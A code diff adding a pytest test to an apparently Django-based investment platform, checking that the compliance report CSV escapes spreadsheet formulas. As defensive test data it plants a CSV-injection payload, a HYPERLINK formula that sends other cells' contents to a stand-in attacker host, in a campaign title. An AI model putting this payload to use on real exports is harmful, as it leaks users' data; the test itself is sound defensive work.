@@ -171,3 +171,28 @@ def test_monthly_compliance_report(setup, officer, tmp_path):
     assert "2 investments, 1 with AML alerts, 1 with compliance decisions" in err.getvalue()
     with pytest.raises(CommandError):
         call_command("compliance_report", "--month", "2026-00")
+
+
+def test_the_compliance_report_neutralises_spreadsheet_formulas(setup, officer, tmp_path):
+    """An issuer-chosen campaign title (and any other text) cannot become a live formula in the
+    officers' CSV: a cell starting with = + - @ or a control character is written with a leading '."""
+    import csv
+
+    from django.core.management import call_command
+    from django.utils import timezone
+
+    from campaigns.models import Campaign
+
+    campaign, user, client, _wallet = setup
+    title = '=HYPERLINK("https://evil.example/?d="&E2&F2,"Open")'
+    Campaign.objects.filter(pk=campaign.pk).update(title=title)
+    type(user).objects.filter(pk=user.pk).update(username="@SUM(1+1)")
+    invested = invest(client, campaign, 10)
+    target = tmp_path / "compliance.csv"
+    call_command(
+        "compliance_report", "--month", timezone.now().strftime("%Y-%m"), "--output", str(target), stderr=None
+    )
+    row = next(r for r in csv.DictReader(target.open()) if int(r["investment_id"]) == invested["id"])
+    assert row["campaign"] == "'" + title
+    assert row["investor"] == "'@SUM(1+1)"
+    assert not row["amount"].startswith("'")  # numbers are left alone
